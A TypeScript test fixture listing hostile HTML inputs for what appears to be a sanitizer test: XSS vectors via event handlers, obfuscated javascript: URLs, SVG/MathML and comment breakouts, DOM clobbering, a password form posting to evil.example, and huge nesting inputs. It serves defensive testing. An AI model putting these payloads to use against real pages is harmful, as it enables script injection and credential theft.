// Texts that attack a page. Every payload that a browser would run calls alert(), so a test can hear it.

export interface HostileText {
  readonly name: string
  readonly html: string
  /** Words a reader would see, which must still be there afterwards. */
  readonly words: readonly string[]
}

const RUN = 'alert(1)'
const BAD_IMAGE = `<img src=x onerror=${RUN}>`

const seen = (name: string, html: string, ...words: string[]): HostileText => ({ name, html, words })

const around = (name: string, html: string): HostileText => seen(name, `<p>before</p>${html}<p>after</p>`, 'before', 'after')

const HANDLERS = [
  ['img', '<img src=x onerror=RUN>'],
  ['img load', '<img src=/favicon.ico onload=RUN>'],
  ['svg load', '<svg onload=RUN></svg>'],
  ['svg load, slash', '<svg/onload=RUN>'],
  ['body load', '<body onload=RUN>'],
  ['body pageshow', '<body onpageshow=RUN>'],
  ['body hashchange', '<body onhashchange=RUN>'],
  ['input focus', '<input autofocus onfocus=RUN>'],
  ['select focus', '<select autofocus onfocus=RUN></select>'],
  ['textarea focus', '<textarea autofocus onfocus=RUN></textarea>'],
  ['button focus', '<button autofocus onfocus=RUN>press</button>'],
  ['details toggle', '<details open ontoggle=RUN><summary>sum</summary>x</details>'],
  ['video error', '<video><source onerror=RUN src=x></video>'],
  ['video src error', '<video src=x onerror=RUN></video>'],
  ['audio error', '<audio src=x onerror=RUN></audio>'],
  ['marquee start', '<marquee onstart=RUN>m</marquee>'],
  ['object error', '<object data=x onerror=RUN></object>'],
  ['iframe load', '<iframe onload=RUN src="about:blank"></iframe>'],
  ['embed load', '<embed src=x onload=RUN onerror=RUN>'],
  ['style load', '<style onload=RUN>p{}</style>'],
  ['link error', '<link rel=stylesheet href=x onerror=RUN onload=RUN>'],
  ['script error', '<script src=x onerror=RUN></script>'],
  ['track error', '<video><track default src=x onerror=RUN></video>'],
  ['animation start', '<p style="animation-name:x" onanimationstart=RUN>a</p>'],
  ['svg animate begin', '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>'],
  ['svg set begin', '<svg><set onbegin=RUN attributeName=x></svg>'],
  ['svg image error', '<svg><image href=x onerror=RUN></image></svg>'],
  ['scroll into view', '<div onscrollsnapchange=RUN onbeforematch=RUN hidden=until-found>x</div>'],
  ['content visibility', '<p oncontentvisibilityautostatechange=RUN style="content-visibility:auto">x</p>'],
  ['p with everything', '<p onclick=RUN onmouseover=RUN onfocus=RUN onpointerenter=RUN tabindex=0 autofocus>x</p>'],
  ['upper case', '<IMG SRC=x ONERROR=RUN>'],
  ['slash for space', '<img/src=x/onerror=RUN>'],
  ['new line for space', '<img\nsrc=x\nonerror\n=\nRUN>'],
  ['form feed for space', '<img\fsrc=x\fonerror=RUN>'],
  ['no space after quote', '<img src="x"onerror="RUN">'],
  ['odd quotes', '<img src=`x` onerror=`RUN`>'],
  ['greater-than in value', '<img title="a>b" src=x onerror="RUN">'],
  ['equals before name', '<img =src=x onerror=RUN src=x>'],
  ['handler twice', '<img src=x onerror="" onerror=RUN src=y onerror=RUN>'],
  ['entity in handler', '<img src=x onerror="&#97;lert(1)">'],
  ['html as element name', '<img src=x onerror=RUN//'],
] as const

const CARRIERS = [
  ['a', (url: string) => `<a href="${url}" autofocus>link</a>`],
  ['a single quotes', (url: string) => `<a href='${url}'>link</a>`],
  ['img', (url: string) => `<img src="${url}">`],
  ['iframe', (url: string) => `<iframe src="${url}"></iframe>`],
  ['embed', (url: string) => `<embed src="${url}">`],
  ['object', (url: string) => `<object data="${url}"></object>`],
  ['meta refresh', (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`],
  ['svg a', (url: string) => `<svg><a xlink:href="${url}"><text y=20>link</text></a></svg>`],
  ['math', (url: string) => `<math href="${url}"><mtext>link</mtext></math>`],
  ['form', (url: string) => `<form action="${url}"><button formaction="${url}">press</button></form>`],
] as const

const URLS = [
  ['javascript', 'javascript:alert(1)'],
  ['mixed case', 'JaVaScRiPt:alert(1)'],
  ['tab inside', 'java\tscript:alert(1)'],
  ['entity tab inside', 'java&Tab;script&colon;alert(1)'],
  ['new line inside', 'java\nscript:alert(1)'],
  ['entity new line', 'java&#10;script&#x3a;alert(1)'],
  ['control before', '&#1;javascript:alert(1)'],
  ['space before', '  &#xa0; javascript:alert(1)'],
  ['numeric entities', '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'],
  ['zero-padded entities', '&#0000106avascript:alert(1)'],
  ['nul inside', 'java\0script:alert(1)'],
  ['data html', 'data:text/html,<script>alert(1)</script>'],
  ['data base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='],
  ['data svg', 'data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>'],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['view-source', 'view-source:javascript:alert(1)'],
  ['blob', 'blob:null/x'],
  ['feed', 'feed:javascript:alert(1)'],
] as const

const MORE_URLS = [
  ['full-width letters', 'ｊavascript:alert(1)'],
  ['long s', 'java\u017fcript:alert(1)'],
  ['right-to-left override', '\u202ejavascript:alert(1)'],
  ['zero-width inside', 'java\u200bscript:alert(1)'],
  ['byte order mark', '\ufeffjavascript:alert(1)'],
  ['colon entity without semicolon', 'javascript&#58alert(1)'],
  ['double-encoded', 'javascript%3Aalert(1)'],
  ['slashes', 'javascript://x%0aalert(1)'],
  ['backslashes', '\\\\evil.example/x'],
  ['slash and backslash', '/\\evil.example/x'],
  ['jar', 'jar:javascript:alert(1)!/x'],
  ['file', 'file:///etc/passwd'],
  ['filesystem', 'filesystem:http://x/y'],
  ['about', 'about:blank'],
  ['intent', 'intent://x#Intent;scheme=javascript;end'],
  ['quote out', 'x&quot; onmouseover=alert(1) x=&quot;'],
  ['colon only', ':alert(1)'],
  ['lone surrogate', 'java\ud800script:alert(1)'],
] as const

const RAW_TEXT = ['textarea', 'title', 'style', 'script', 'xmp', 'iframe', 'noembed', 'noframes', 'noscript', 'plaintext', 'listing', 'template', 'select', 'option', 'button', 'object', 'marquee', 'svg', 'math', 'form', 'head']

const BREAKOUTS = [
  ['attribute', (name: string) => `<${name}><p title="</${name}>${BAD_IMAGE}">x</p></${name}>`],
  ['comment', (name: string) => `<${name}><!--</${name}>${BAD_IMAGE}--></${name}>`],
  ['inside svg', (name: string) => `<svg><${name}><a title="</${name}>${BAD_IMAGE}"></a></${name}></svg>`],
  ['inside math', (name: string) => `<math><mtext><${name}><a title="</${name}>${BAD_IMAGE}"></a></${name}></mtext></math>`],
  ['self-closing in svg', (name: string) => `<svg><${name}/>${BAD_IMAGE}</svg>`],
] as const

const FOREIGN = [
  ['style in mglyph', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`],
  ['form table form', `<form><math><mtext></form><form><mglyph><style></math>${BAD_IMAGE}`],
  ['math table style', `<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">`],
  ['malignmark', `<math><mtext><mglyph><malignmark><style>${BAD_IMAGE}</style></malignmark></mglyph></mtext></math>`],
  ['annotation-xml html', `<math><annotation-xml encoding="text/html"><style>${BAD_IMAGE}</style></annotation-xml></math>`],
  ['annotation-xml plain', `<math><annotation-xml><style>${BAD_IMAGE}</style></annotation-xml></math>`],
  ['annotation-xml xhtml', `<math><annotation-xml encoding="application/xhtml+xml"><svg><style>${BAD_IMAGE}</style></svg></annotation-xml></math>`],
  ['svg desc', `<svg><desc><style></desc>${BAD_IMAGE}</style></svg>`],
  ['svg title', `<svg><title><style></title>${BAD_IMAGE}</style></svg>`],
  ['foreignObject', `<svg><foreignObject><p><style></p></foreignObject>${BAD_IMAGE}</style></svg>`],
  ['svg p style', `<svg></p><style><a id="</style>${BAD_IMAGE}">`],
  ['svg br style', `<svg></br><style><a title="</style>${BAD_IMAGE}">`],
  ['cdata in svg', `<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>`],
  ['cdata in html', `<![CDATA[<img src=x onerror=alert(1)>]]>`],
  ['cdata in svg style', `<svg><style><![CDATA[</style>${BAD_IMAGE}]]></style></svg>`],
  ['svg use', `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>`],
  ['svg script', `<svg><script>alert(1)</script></svg>`],
  ['svg script href', `<svg><script href="data:text/javascript,alert(1)" /></svg>`],
  ['svg animate href', `<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=9>x</text></a></svg>`],
  ['svg set href', `<svg><a id=q><set attributeName=href to="javascript:alert(1)"/></a></svg>`],
  ['svg handler element', `<svg><handler type="text/javascript" ev:event="load">alert(1)</handler></svg>`],
  ['svg in math', `<math><mi><svg><mi><style>${BAD_IMAGE}</style></mi></svg></mi></math>`],
  ['math in svg', `<svg><desc><math><style>${BAD_IMAGE}</style></math></desc></svg>`],
  ['maction', `<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>`],
  ['font breaks out', `<svg><font color=red><style>${BAD_IMAGE}</style></font></svg>`],
  ['nested svg titles', `<svg><title><svg><title><svg><style><!--</style>${BAD_IMAGE}--></svg></title></svg></title></svg>`],
  ['svg in select', `<select><svg><style>${BAD_IMAGE}</style></svg></select>`],
  ['namespace prefix', `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`],
  ['html namespace in svg', `<svg xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>`],
  ['xml data island', `<xml id=x><a><b>&lt;script>alert(1)&lt;/script></b></a></xml>`],
] as const

const COMMENTS = [
  ['closed with bang', `<!-- x --!>${BAD_IMAGE}`],
  ['abrupt', `<!-->${BAD_IMAGE}`],
  ['abrupt dash', `<!--->${BAD_IMAGE}`],
  ['nested', `<!-- <!-- --> ${BAD_IMAGE} -->`],
  ['bang inside', `<!-- --!><!-- ${BAD_IMAGE} -->`],
  ['conditional', `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`],
  ['downlevel revealed', `<![if !vml]>${BAD_IMAGE}<![endif]>`],
  ['bogus', `<! ${BAD_IMAGE}>`],
  ['processing instruction', `<?xml version="1.0"?>${BAD_IMAGE}`],
  ['php', `<?php echo '${BAD_IMAGE}' ?>`],
  ['xml stylesheet', `<?xml-stylesheet href="javascript:alert(1)"?>`],
  ['doctype', `<!DOCTYPE html [<!ENTITY x "${BAD_IMAGE}">]>&x;`],
  ['asp', `<% ${BAD_IMAGE} %>`],
  ['end tag as comment', `</ ${BAD_IMAGE}>`],
  ['script comment', `<script><!--<script></script>${BAD_IMAGE}--></script>`],
] as const

const STYLES = [
  ['expression', '<p style="width: expression(alert(1))">x</p>'],
  ['url javascript', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['import', `<style>@import 'javascript:alert(1)';</style>`],
  ['behaviour', '<p style="behavior:url(x.htc)">x</p>'],
  ['binding', '<p style="-moz-binding:url(x.xml#x)">x</p>'],
  ['cover the page', '<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>'],
  ['escaped', '<p style="\\65xpression(alert(1))">x</p>'],
  ['style breaks out', `<p style="text-align:center&quot;><img src=x onerror=alert(1)>">x</p>`],
  ['class of the page', '<div class="page-header admin align-center" role=alert>x</div>'],
  ['aligned by script', '<p align="center onmouseover=alert(1)">x</p>'],
  ['text-align url', '<p style="text-align: url(javascript:alert(1))">x</p>'],
  ['custom property', '<p style="--x: url(//evil.example)">x</p>'],
] as const

const CLOBBERING = ['body', 'forms', 'cookie', 'getElementById', '__proto__', 'constructor', 'location', 'nodeName', 'attributes', 'main', 'toString', 'hasOwnProperty']

const DOCUMENT = [
  ['base', '<base href="javascript:/a/-alert(1)///////"><a href="../lol">link</a>'],
  ['base target', '<base target=_blank>'],
  ['meta refresh data', '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">'],
  ['meta csp', `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`],
  ['meta charset', '<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-'],
  ['link import', '<link rel=import href="data:text/html,<script>alert(1)</script>">'],
  ['html attributes', '<html onmouseover=alert(1) manifest=x>'],
  ['frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  ['srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['srcdoc entities', '<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>'],
  ['object html', '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>'],
  ['applet', '<applet code="javascript:alert(1)"></applet>'],
  ['portal', '<portal src="javascript:alert(1)"></portal>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['keygen', '<keygen autofocus onfocus=alert(1)>'],
  ['image alias', '<image src=x onerror=alert(1)>'],
  ['input image', '<input type=image src=x onerror=alert(1)>'],
  ['dialog', '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>'],
  ['custom element', '<x-y onclick=alert(1) is=script>x</x-y>'],
  ['is attribute', '<p is=script>x</p>'],
  ['slot', '<slot onslotchange=alert(1)>x</slot>'],
  ['declarative shadow root', `<div><template shadowrootmode=open>${BAD_IMAGE}</template></div>`],
  ['popover', '<button popovertarget=x>b</button><div popover id=x onbeforetoggle=alert(1)>x</div>'],
  ['invoker command', '<button command=--x commandfor=y>b</button>'],
  ['srcset', '<img srcset="x 1x" onerror=alert(1)>'],
  ['picture', '<picture><source srcset=x><img onerror=alert(1) src=x></picture>'],
  ['ping', '<a href="/x" ping="//evil.example">x</a>'],
  ['opener', '<a href="https://evil.example" target=_blank rel=opener>x</a>'],
  ['download', '<a href="/logout" download>x</a>'],
  ['form of the page', '<form id=login action=//evil.example><input name=password></form>'],
  ['form attribute', '<input form=login name=role value=owner><button form=login>x</button>'],
  ['speculation rules', '<script type=speculationrules>{"prefetch":[{"urls":["/logout"]}]}</script>'],
  ['import map', '<script type=importmap>{"imports":{"a":"data:text/javascript,alert(1)"}}</script>'],
  ['module', '<script type=module>alert(1)</script>'],
  ['script by data', '<script src="data:text/javascript,alert(1)"></script>'],
  ['script split', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script in script', '<<script>script>alert(1)<</script>/script>'],
  ['double open', '<<img src=x onerror=alert(1)>'],
  ['escaped twice', '&amp;lt;img src=x onerror=alert(1)&amp;gt;'],
  ['escaped once', '&lt;img src=x onerror=alert(1)&gt;'],
] as const

const STRUCTURE = [
  ['misnested formatting', `<b><i><u>one</b>two</i>three</u>`, 'one', 'two', 'three'],
  ['blocks in inlines', '<em><p>one</p><div>two</div></em>', 'one', 'two'],
  ['a in a', '<a href=/1>one<a href=/2>two</a>three</a>', 'one', 'two', 'three'],
  ['a in a through a table', '<a href=/1>one<table><tr><td><a href=/2>two</a></td></tr></table></a>', 'one', 'two'],
  ['p in p', '<p>one<p>two</p>three</p>', 'one', 'two', 'three'],
  ['table in p', '<p>one<table><td>two</table>three</p>', 'one', 'two', 'three'],
  ['words in a table', '<table>one<tr>two<td>three</td>four</tr>five</table>six', 'one', 'two', 'three', 'four', 'five', 'six'],
  ['form in form', '<form>one<form>two</form>three</form>', 'one', 'two', 'three'],
  ['form in a table', '<table><form><tr><td>one</form></td></tr></table>', 'one'],
  ['form trick', '<form><div></form><form>one</div></form>', 'one'],
  ['heading in heading', '<h1>one<h2>two</h1>three</h2>', 'one', 'two', 'three'],
  ['list in paragraph', '<p>one<ul><li>two</ul>three', 'one', 'two', 'three'],
  ['items without a list', '<li>one<li>two', 'one', 'two'],
  ['cells without a table', '<td>one<td>two<tr><th>three', 'one', 'two', 'three'],
  ['terms without a list', '<dd>one<dt>two', 'one', 'two'],
  ['select in select', '<select><option>one<select><option>two</select>', 'one', 'two'],
  ['table in select', '<select><table><tr><td>one</table></select>two', 'one', 'two'],
  ['button in button', '<button>one<button>two</button></button>', 'one', 'two'],
  ['nobr in nobr', '<nobr>one<nobr>two</nobr></nobr>', 'one', 'two'],
  ['end tags alone', '</p></div></table></li></b>one</br></h1></script></template>', 'one'],
  ['ruby without base', '<rt>one<rp>two<ruby>three<rt>four<ruby>five', 'one', 'two', 'three', 'four', 'five'],
  ['caption late', '<table><tr><td>one</td></tr><caption>two</caption></table>', 'one', 'two'],
  ['template in table', '<table><template><tr><td>x</td></tr></template><tr><td>one</table>', 'one'],
  ['table in caption', '<table><caption>one<table><tr><td>two</table></caption></table>', 'one', 'two'],
  ['pre with line ends', '<pre>\n\n\none\n</pre>', 'one'],
  ['summary alone', '<summary>one<p>two</summary>', 'one', 'two'],
  ['details open', '<details open><summary>one<details><summary>two', 'one', 'two'],
  ['frames left over', '<noframes>one</noframes><noembed>two</noembed><noscript>three</noscript>', 'one', 'two', 'three'],
  ['words of foreign elements', '<svg><text>one</text><title>two</title></svg><math><mi>three</mi></math>', 'one', 'two', 'three'],
  ['self-closing style in svg', '<svg><style/>one</svg>two', 'one', 'two'],
  ['self-closing script in math', '<math><script/>one</math>two', 'one', 'two'],
  ['word processor', `<?xml:namespace prefix = o /><p class=MsoNormal style='mso-bidi:x;text-align:center'><o:p>one</o:p><![if !supportLists]>two<![endif]></p>`, 'one', 'two'],
  ['less-than in prose', 'one <3 two < three & four <- five', 'one <3 two < three & four <- five'],
  ['whole document', '<!doctype html><html><head><title>x</title><style>p{}</style></head><body bgcolor=red>one</body></html>two', 'one', 'two'],
] as const

const BYTES = [
  ['nul everywhere', '<\0i\0mg src=x onerror=alert(1)>\0<scr\0ipt>alert(1)</scr\0ipt>one', 'one'],
  ['nul in text', 'o\0ne', 'one'],
  ['lone surrogates', 'one \ud800 <b title="\udc00">two</b>', 'one', 'two'],
  ['controls', 'one\x01\x02\x0b\x0c\x1f two', 'one', 'two'],
  ['control entities', 'one&#0;&#1;&#12;&#13;&#x1f;&#xd800;&#x110000;&#xfffe; two', 'one', 'two'],
  ['byte order marks', '\ufeff<script\ufeff>alert(1)</script\ufeff>one</script>two', 'two'],
  ['overlong entity', `&#x${'0'.repeat(100_000)}3c;script>alert(1)&#x${'0'.repeat(100)}3c;/script> one`, 'one'],
  ['huge entity number', `&#${'9'.repeat(100_000)}; one`, 'one'],
  ['entity without end', `&${'a'.repeat(100_000)} one`, 'one'],
  ['windows quotes', '&#147;one&#148;', '“one”'],
  ['high entities', '&#x1F600; one', '😀 one'],
  ['paragraph separators', '<img src=x\u2028onerror=alert(1)>one\u2029', 'one'],
  ['odd spaces in tags', '<img\u00a0src=x\u3000onerror=alert(1)>one', 'one'],
  ['half-width tag', '＜script＞alert(1)＜/script＞one', 'one'],
] as const

const many = (count: number, html: (index: number) => string) => Array.from({ length: count }, (_, index) => html(index)).join('')

const SIZES: HostileText[] = [
  seen('50,000 nested div', `${'<div>'.repeat(50_000)}one${'</div>'.repeat(50_000)}two`, 'one', 'two'),
  seen('50,000 nested b, never closed', `${'<b>'.repeat(50_000)}one<p>two`, 'one', 'two'),
  seen('50,000 nested blockquotes', `${'<blockquote>'.repeat(50_000)}one`, 'one'),
  seen('50,000 nested spans with languages', `${many(50_000, (i) => `<span lang=x-${i}>`)}one`, 'one'),
  seen('50,000 nested lists', `${'<ul><li>'.repeat(50_000)}one`, 'one'),
  seen('50,000 nested svg', `${'<svg>'.repeat(50_000)}one`, 'one'),
  seen('50,000 nested math with integration points', `${'<math><mi>'.repeat(50_000)}one`, 'one'),
  seen('50,000 nested templates', `one${'<template>'.repeat(50_000)}`, 'one'),
  seen('50,000 nested fonts', `${'<font color=red>'.repeat(50_000)}one`, 'one'),
  seen('50,000 nested links', `${many(50_000, (i) => `<a href=/${i}>`)}one`, 'one'),
  seen('3,000 nested tables', `${'<table><tr><td>'.repeat(3_000)}one${'</td></tr></table>'.repeat(3_000)}`, 'one'),
  seen('3,000 tables directly in tables', `${'<table>'.repeat(3_000)}one`, 'one'),
  seen('20,000 words fostered by tables', many(20_000, () => '<table>one<b>'), 'one'),
  seen('20,000 attributes', `<p ${many(20_000, (i) => `a${i}=1 `)}>one</p>`, 'one'),
  seen('100,000 attributes of one name', `<p ${'onclick=alert(1) '.repeat(100_000)}>one</p>`, 'one'),
  seen('20,000 formats left open, 20,000 paragraphs', `${many(20_000, (i) => `<b id=${i}>`)}${'<p>one'.repeat(20_000)}`, 'one'),
  seen('every format left open, 30,000 paragraphs', `<b><i><u><s><em><strong><code><small>${'<p>x'.repeat(30_000)}one`, 'one'),
  seen('a long link left open', `<a href="/${'x'.repeat(1_900)}">${'<p>x'.repeat(30_000)}one`, 'one'),
  seen('misnested without end', `${'<b><i><p></b>'.repeat(30_000)}one`, 'one'),
  seen('formats crossing', `${'<b><i></b></i>x'.repeat(30_000)}one`, 'one'),
  seen('100,000 end tags', `${'</p></b></td>'.repeat(35_000)}one`, 'one'),
  seen('100,000 less-than signs', `${'<'.repeat(100_000)} one`, 'one'),
  seen('100,000 comment openings', `one${'<!--'.repeat(100_000)}`, 'one'),
  seen('100,000 closed comments', `${'<!-- x -->'.repeat(60_000)}one`, 'one'),
  seen('script endings', `<script>${'</scrip'.repeat(80_000)}</script>one`, 'one'),
  seen('500,000 spaces', `<p>one${' '.repeat(500_000)}two`, 'one', 'two'),
  seen('500,000 line ends', `${'\n'.repeat(500_000)}one`, 'one'),
  seen('100,000 line breaks', `one${'<br>'.repeat(100_000)}two`, 'one', 'two'),
  seen('a megabyte of attribute', `<a href="/${'x'.repeat(1_000_000)}">one</a>`, 'one'),
  seen('a megabyte of style', `<p style="${'text-decoration:'.repeat(60_000)}">one</p>`, 'one'),
  seen('a megabyte of classes', `<p class="${many(150_000, (i) => `c${i} `)}">one</p>`, 'one'),
  seen('a megabyte of element name', `<${'x'.repeat(1_000_000)}>one`, 'one'),
  seen('20,000 ids', many(20_000, (i) => `<a id=${i}></a>`) + 'one', 'one'),
  seen('20,000 ruby readings', `<ruby>${'漢<rt>か'.repeat(20_000)}</ruby>one`, 'one'),
  seen('600 KB of words', `<p>${'word '.repeat(120_000)}</p>one`, 'one'),
  seen('120,000 entities', `${'&amp;&lt;'.repeat(60_000)}one`, 'one'),
]

const UNCLOSED = ['p', 'div', 'b', 'a href="/x"', 'span lang=fr', 'table', 'tr', 'td', 'ul', 'li', 'dl', 'dt', 'blockquote', 'pre', 'h1', 'center', 'font', 'ruby', 'svg', 'math', 'select', 'option', 'button', 'form', 'textarea', 'title', 'noscript', 'iframe', 'object', 'details', 'figure', 'caption', 'xmp', 'listing', 'plaintext', 'marquee', 'fieldset', 'noembed', 'video']

// What never closes must not swallow the words after it.
const LEFT_OPEN = ['<script>', '<script src="x>', '<style>', '<template>', '<template><template>x</template>', '<template><script>', '<title>', '<head><title>', '<textarea>', '<xmp>', '<noscript>', '<iframe>', '<iframe src="x>', '<noembed>', '<noframes>', '<plaintext>', '<svg><style>', '<svg><script>', '<math><style>', '<svg><title>', '<svg><template>', '<!--', '<!-- <b>', '<!DOCTYPE html ', '<![CDATA[', '<svg><![CDATA[', '<?', '<?php ', '<!', '</ ', '<a href="x>', "<a href='x>", '<a href="javascript:alert(1)>', '<p class="x>', '<img src="x>', `<img src=x onerror="${RUN}>`, '<p ', '<b ', '</p ', '<', '< ', '<love ', '<a href=x ', '<svg><desc><style>', '<select><template>', '<script><!--<script></script>', '<template><p title="</template>">']

const CUT = ['<', '</', '</p', '<blockqu', '<a hre', '<a href="htt', '<a href=htt', `<img src=x onerror=${RUN}`, '<p class="MsoNormal" style="margin: 0in 0in 0pt; text-ind', '<br /', '<!', '<!-', '<!--', '<?', '<span lang', '<scrip', '<script', '<script>', '<o:p', '&nbs']

const SPOKEN = `words to <i>the</i> end</p>\n<p>"Hello," she said. <b class="y" onclick=${RUN}>Then</b> it's over.${BAD_IMAGE}</p>`

const ENDLESS = ['<script>', '<template>', '<template></template><template>', '<!--', '<![CDATA[', '<svg><![CDATA[', '<svg><style>', '<?', '</ ', '</p ', '<a href="x>', '<a href="x', '<a w b="<a" b="', `<a b="<a b='`, '<a ', '<love ', '<script></script']

/** Attacks on the search for ends, which is the same for chapters and summaries. */
export const ENDLESS_HTML: readonly HostileText[] = ENDLESS.map((opening) =>
  seen(`50,000 times ${opening}`, `one ${opening.repeat(50_000)}`, 'one'),
)

export const HOSTILE_HTML: readonly HostileText[] = [
  ...HANDLERS.slice(0, -1).map(([name, html]) => around(`handler: ${name}`, html.replaceAll('RUN', RUN))),
  seen('handler: tag without end', `<p>before</p><img src=x onerror=${RUN}//`, 'before'),
  ...CARRIERS.flatMap(([carrier, write]) => URLS.map(([name, url]) => around(`address: ${name} in ${carrier}`, write(url)))),
  ...MORE_URLS.map(([name, url]) => around(`address: ${name}`, `<a href="${url}">link</a><img src="${url}" alt="picture">`)),
  ...RAW_TEXT.flatMap((element) =>
    BREAKOUTS.filter(([name]) => !(name === 'self-closing in svg' && element === 'title')).map(([name, write]) => ({
      name: `raw text: ${name}, ${element}`,
      html: `<p>before</p>${write(element)}`,
      words: ['before'],
    })),
  ),
  ...FOREIGN.map(([name, html]) => seen(`foreign: ${name}`, `<p>before</p>${html}`, 'before')),
  ...COMMENTS.map(([name, html]) => seen(`comment: ${name}`, `<p>before</p>${html}`, 'before')),
  ...STYLES.map(([name, html]) => around(`style: ${name}`, html)),
  ...CLOBBERING.map((name) =>
    around(`clobbering: ${name}`, `<a id="${name}">x</a><form name="${name}"><input name="${name}"></form><img name="${name}" id="${name}" src="/x"><a name="${name}" href="#${name}">y</a>`),
  ),
  ...DOCUMENT.map(([name, html]) => seen(`document: ${name}`, `<p>before</p>${html}`, 'before')),
  ...STRUCTURE.map(([name, html, ...words]) => seen(`structure: ${name}`, html, ...words)),
  ...UNCLOSED.map((tag) => seen(`unclosed: ${tag}`, `before <${tag}>one <b onclick=${RUN}>two${BAD_IMAGE}`, 'before', 'one', 'two')),
  seen('unclosed: everything', UNCLOSED.map((tag, index) => `<${tag}>word${index}. ${BAD_IMAGE}`).join(''), ...UNCLOSED.map((_, index) => `word${index}.`)),
  seen('unclosed: attribute', `<p>before</p><a href="javascript:${RUN}`, 'before'),
  seen('unclosed: comment', `<p>before</p><!-- ${BAD_IMAGE}`, 'before'),
  seen('unclosed: script', `<p>before</p><script>${RUN}`, 'before'),
  seen('unclosed: style', `<p>before</p><style>${BAD_IMAGE}`, 'before'),
  seen('unclosed: template', `<p>before</p><template>${BAD_IMAGE}`, 'before'),
  seen('unclosed: end tag', `<p>before</p></b onclick="${RUN}`, 'before'),
  ...LEFT_OPEN.map((opening) => seen(`left open: ${opening}`, `<p>before ${opening}${SPOKEN}`, 'before', 'words to the end', '"Hello," she said. Then it\'s over.')),
  ...LEFT_OPEN.map((opening) => seen(`left open in a long line: ${opening}`, `before ${opening}one two three`, 'before', 'one two three')),
  ...CUT.map((ruin) => seen(`cut: ${ruin}`, `<p>before</p><p>words to the end${ruin}`, 'before', 'words to the end')),
  ...BYTES.map(([name, html, ...words]) => seen(`bytes: ${name}`, html, ...words)),
  ...SIZES.map((text) => ({ ...text, name: `size: ${text.name}` })),
]
